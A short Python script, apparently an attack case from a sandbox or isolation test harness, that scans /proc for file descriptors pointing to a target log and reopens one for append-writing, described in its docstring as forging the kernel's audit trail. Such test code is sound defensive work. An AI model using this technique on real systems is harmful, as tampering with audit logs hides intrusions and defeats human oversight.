"""Forge the audit trail: write to the kernel's log through its open file descriptor."""

import os

from module import processes, serve, target


def attack():
    for pid in processes():
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}") == target("LOG"):
                    os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_APPEND))
                    return f"{pid}/{fd}"
        except OSError:
            continue
    raise OSError("no process shows it")


serve(attack)
